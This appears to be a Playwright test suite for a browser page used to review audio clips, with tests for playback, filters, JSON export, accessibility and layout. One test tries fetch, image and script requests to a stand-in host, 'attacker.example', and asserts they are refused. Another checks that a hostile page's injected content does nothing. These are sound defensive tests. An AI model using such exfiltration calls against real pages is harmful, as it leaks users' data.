"""The page in a real Chromium: it plays, filters, exports, and sends nothing anywhere."""

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, sync_playwright

from ci.review import read_sheet
from schema.review import ReviewSheet
from scripts import browser
from tests.components import javascript_packages, unavailable
from tests.flawless import make_task, sound, variant
from tests.listening.pages import hostile, page_of
from tests.sounds import speech
from validators.engine import Measurer

PHONE = {"width": 390, "height": 844}
DESK = {"width": 1280, "height": 900}


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    if reason := browser.missing():
        unavailable(reason)
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(
            executable_path=browser.path(), args=list(browser.FLAGS)
        )
        yield launched
        launched.close()


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory, clips: Path, measure: Measurer) -> Path:
    """A folder with a plain page, one played as MP3, one with two clips a row, a hostile one."""
    folder = tmp_path_factory.mktemp("pages")

    def write(name: str, root: Path) -> None:
        (folder / f"{name}.html").write_text(page_of(root, measure, clips=6), encoding="utf-8")

    for name, edit in (("plain", variant("classification")), ("two", variant("two clips")),
                       ("hostile", hostile())):  # fmt: skip
        root = tmp_path_factory.mktemp(name)
        task = make_task(root, clips)
        edit(task)
        if name == "plain":
            sound("data/Prompts/clips/c01.wav", speech(3.0))(task)
        write(name, root)
        if name == "plain":
            with pytest.MonkeyPatch.context() as patch:
                patch.setattr("validators.listening.view.SOUND_BYTES", 0)
                write("mp3", root)
    return folder


class Visit:
    """A page that is open, and all that it said or asked for."""

    def __init__(self, context: BrowserContext, path: Path) -> None:
        self.said: list[str] = []
        self.asked_for: list[str] = []
        context.route("**/*", self._route)
        self.page: Page = context.new_page()
        self.page.on("console", lambda message: self.said.append(message.text))
        self.page.on("pageerror", lambda error: self.said.append(str(error)))
        self.page.on("dialog", lambda dialog: self.said.append(dialog.message))
        self.page.goto(path.as_uri())

    def _route(self, route: Any) -> None:
        url = route.request.url
        if url.startswith(("file:", "blob:", "data:")):
            route.continue_()
            return
        self.asked_for.append(url)
        route.abort()

    def text(self, selector: str) -> str:
        return self.page.locator(selector).inner_text()

    def shown(self) -> list[str]:
        cards = self.page.locator(".card:visible")
        return [str(card.get_attribute("data-file")) for card in cards.all()]


def eventually(page: Page, happens: Callable[[], bool]) -> None:
    """Wait in the page for what it does by itself; its policy lets no test wait by a script."""
    for _ in range(300):
        if happens():
            return
        page.wait_for_timeout(50)
    pytest.fail("it did not happen within 15 seconds")


@pytest.fixture
def visit(chromium: Browser, pages: Path) -> Iterator[Any]:
    """Opens a page by its name; at the end nothing may have been said or asked for."""
    visits: list[Visit] = []
    contexts: list[BrowserContext] = []

    def opened(name: str, **options: Any) -> Visit:
        context = chromium.new_context(accept_downloads=True, **({"viewport": DESK} | options))
        contexts.append(context)
        visits.append(Visit(context, pages / f"{name}.html"))
        return visits[-1]

    yield opened
    for context in contexts:
        context.close()
    assert [one.said for one in visits] == [[]] * len(visits)
    assert [one.asked_for for one in visits] == [[]] * len(visits)


@pytest.mark.parametrize("name", ["plain", "mp3"])
def test_a_clip_is_heard_from_its_beginning_to_its_end(visit: Any, name: str) -> None:
    page = visit(name).page
    card = page.locator(".card[data-file=c01]")
    card.locator(".play").click()
    eventually(page, lambda: float(card.locator("input[type=range]").input_value()) > 0.3)
    assert card.locator(".play").inner_text() == "Pause"
    assert page.locator("#toggle").inner_text() == "Pause"
    card.locator("input[type=range]").fill("2.8")
    eventually(page, lambda: card.locator(".play").inner_text() == "Play")
    assert float(card.locator("input[type=range]").input_value()) == pytest.approx(3.0, abs=0.05)
    assert card.locator("output").inner_text() == "3.0 / 3.0 s"


def test_one_clip_is_heard_at_a_time(visit: Any) -> None:
    page = visit("plain").page
    page.locator(".play").nth(0).click()
    page.locator(".play").nth(1).click()
    eventually(page, lambda: page.locator(".play").all_inner_texts().count("Pause") <= 1)
    assert page.locator(".play").first.inner_text() == "Play"


def test_a_click_on_the_picture_plays_from_there(visit: Any) -> None:
    page = visit("plain").page
    card = page.locator(".card[data-file=c01]")
    box = card.locator(".pictures").bounding_box()
    card.locator(".pictures").click(position={"x": box["width"] / 2, "y": 20})
    eventually(page, lambda: float(card.locator("input[type=range]").input_value()) > 1.6)


def test_verdicts_are_given_by_keys_and_exported_as_the_model_says(visit: Any) -> None:
    opened = visit("plain")
    page = opened.page
    for key in ("n", "o", "5", "4", "3", "n", "b", "2", "m"):
        page.keyboard.press(key)
    page.keyboard.type("1 o b n: <noise> is all \U0001f600")
    page.keyboard.press("Escape")
    page.keyboard.press("p")
    page.keyboard.press("1")  # all three are given: the first one again
    assert opened.text("#done") == "consistent 1; 2 of 6 judged"
    page.keyboard.press("e")
    page.keyboard.type("ada-example")
    page.locator("#remark").fill("Instructions are much alike.")
    with page.expect_download() as download:
        page.locator("button.main").click()
    assert download.value.suggested_filename == "AnswerDetection.ada-example.review.json"
    written = Path(download.value.path()).read_bytes()
    sheet = ReviewSheet.model_validate_json(written)
    assert read_sheet(Path(download.value.path())) == sheet
    first, second = opened.shown()[:2]
    assert [one.model_dump() for one in sheet.examples] == [
        {
            "instance": "AnswerDetection_Prompts", "file": first, "verdict": "ok",
            "consistent": 1, "clear": 4, "relevant": 3, "note": "",
        },
        {
            "instance": "AnswerDetection_Prompts", "file": second, "verdict": "bad",
            "consistent": 2, "clear": None, "relevant": None,
            "note": "1 o b n: <noise> is all \U0001f600",
        },
    ]  # fmt: skip
    assert (sheet.reviewer, sheet.note) == ("ada-example", "Instructions are much alike.")
    assert (sheet.task, sheet.shown, sheet.seed, sheet.rubric) == ("AnswerDetection", 6, 0, 1)
    assert json.loads(written)["validator"] == sheet.validator


def test_nothing_is_exported_for_what_is_no_account(visit: Any) -> None:
    page = visit("plain").page
    page.keyboard.press("n")
    page.keyboard.press("o")
    for account in ("", "-ada", "ada--b", "ada/b", "@ada"):
        page.locator("#reviewer").fill(account)
        page.locator("button.main").click()
        assert page.locator("#reviewer:invalid").count() == 1
        assert page.locator("#exported").inner_text() == ""


def test_an_export_of_nothing_says_so(visit: Any) -> None:
    opened = visit("plain")
    opened.page.locator("#reviewer").fill("ada-example")
    opened.page.locator("button.main").click()
    assert opened.text("#exported") == "There is no verdict to export yet."


def test_verdicts_outlive_the_page_until_they_are_taken_back(visit: Any) -> None:
    opened = visit("plain")
    page = opened.page
    for key in ("n", "b", "3", "m"):
        page.keyboard.press(key)
    page.keyboard.type("cut off")
    page.reload()
    assert opened.text("#done") == "1 of 6 judged"
    first = page.locator(".card").first
    assert first.locator("textarea").input_value() == "cut off"
    assert first.locator("[data-field=consistent] input:checked").get_attribute("value") == "3"
    page.keyboard.press("n")
    page.keyboard.press("0")
    assert opened.text("#done") == "taken back; 0 of 6 judged"


def test_keys_can_be_switched_off(visit: Any) -> None:
    opened = visit("plain")
    opened.page.locator("details.keys summary").click()
    opened.page.locator("#keys").uncheck()
    for key in ("n", "o"):
        opened.page.keyboard.press(key)
    assert opened.text("#done") == "0 of 6 judged"


def test_keys_play_one_clip_after_the_other(visit: Any) -> None:
    page = visit("two").page
    page.keyboard.press("n")
    page.keyboard.press(" ")
    ranges = page.locator(".card[aria-current] input[type=range]")
    eventually(page, lambda: float(ranges.nth(0).input_value()) > 0)
    page.keyboard.press("c")
    eventually(page, lambda: float(ranges.nth(1).input_value()) > 0)


def test_filters_show_what_they_say(visit: Any) -> None:
    opened = visit("plain")
    page = opened.page
    everything = opened.shown()
    page.locator("#filter-answer").select_option(label="yes")
    answers = page.locator(".card:visible .answer").all_inner_texts()
    assert set(answers) == {"yes"}
    assert opened.text("#matching") == f"{len(answers)} of 6"
    page.locator("#filter-answer").select_option(label="no")
    assert len(opened.shown()) == 6 - len(answers)
    page.locator("#filter-answer").select_option(label="all")
    page.locator("#filter-reason").select_option(label="longest")
    assert opened.shown() == ["c01"]
    page.locator("#filter-reason").select_option(label="all")
    page.locator("#filter-findings").check()
    assert opened.shown() == []
    assert opened.text("#nothing") == "No example is like that."
    page.locator("#filter-findings").uncheck()
    page.keyboard.press("n")
    page.locator(".card .option.ok span").first.click()
    page.locator("#filter-open").check()
    assert opened.shown() == everything[1:]


def test_answers_can_be_hidden_until_they_are_heard_or_asked_for(visit: Any) -> None:
    page = visit("plain").page
    page.locator("#filter-blind").check()
    answers = page.locator(".answer:visible")
    assert answers.count() == 0
    page.keyboard.press("n")
    page.keyboard.press("a")
    assert answers.count() == 1
    short = page.locator(".card:not([data-file=c01]):not(.heard)").first
    short.locator(".play").click()
    eventually(page, lambda: answers.count() == 2)


def test_what_strangers_wrote_does_nothing(visit: Any) -> None:
    opened = visit("hostile")
    page = opened.page
    page.keyboard.press("n")
    page.keyboard.press(" ")
    page.wait_for_timeout(300)
    assert page.evaluate("typeof window.hacked") == "undefined"
    assert page.title() == "Listen: AnswerDetection"
    assert page.locator("iframe, object, embed, base, link, [onload], [onerror]").count() == 0


def test_nothing_could_be_sent_even_by_a_script_of_ours(chromium: Browser, pages: Path) -> None:
    context = chromium.new_context()
    opened = Visit(context, pages / "plain.html")
    tries = (
        "fetch('https://attacker.example/')",
        "new Promise((_, fail) => { const image = new Image(); image.onerror = fail;"
        " image.src = 'https://attacker.example/x.png' })",
        "new Promise((_, fail) => { const script = document.createElement('script');"
        " script.src = 'https://attacker.example/x.js' })",
    )
    for attempt in tries:
        outcome = opened.page.evaluate(f"async () => {{ try {{ await {attempt}; return 'sent' }}"
                                       " catch { return 'refused' } }")  # fmt: skip
        assert outcome == "refused"
    context.close()
    assert opened.asked_for == []


@pytest.mark.parametrize("name", ["plain", "two", "hostile"])
def test_a_phone_shows_all_without_scrolling_sideways(visit: Any, name: str) -> None:
    page = visit(name, viewport=PHONE).page
    assert page.evaluate("document.scrollingElement.scrollWidth") <= PHONE["width"]


def test_the_first_tab_leads_to_the_examples(visit: Any) -> None:
    page = visit("plain").page
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "Skip to the examples"


def test_who_wants_no_motion_is_given_none(visit: Any) -> None:
    page = visit("plain", reduced_motion="reduce").page
    page.keyboard.press("n")
    assert page.evaluate(
        "getComputedStyle(document.querySelector('.card')).transitionDuration"
    ) == ("0s")


@pytest.fixture(scope="module")
def axe() -> str:
    file = javascript_packages() / "node_modules/axe-core/axe.min.js"
    return file.read_text(encoding="utf-8")


@pytest.mark.network
@pytest.mark.parametrize(
    ("name", "viewport", "scheme"),
    [("plain", DESK, "light"), ("plain", PHONE, "dark"), ("hostile", DESK, "dark"),
     ("two", PHONE, "light")],
    ids=["desk light", "phone dark", "hostile", "two clips"],
)  # fmt: skip
def test_axe_finds_nothing_that_keeps_anybody_out(
    visit: Any, axe: str, name: str, viewport: dict[str, int], scheme: str
) -> None:
    page = visit(name, viewport=viewport, color_scheme=scheme, bypass_csp=True).page
    for summary in page.locator("summary").all():
        summary.click()
    page.keyboard.press("n")
    page.keyboard.press("o")
    page.evaluate(axe)
    result = page.evaluate("axe.run()")
    faults = [
        (fault["id"], fault["impact"], node["target"], node.get("failureSummary"))
        for fault in result["violations"]
        for node in fault["nodes"][:2]
    ]
    assert not faults
    assert len(result["passes"]) > 20
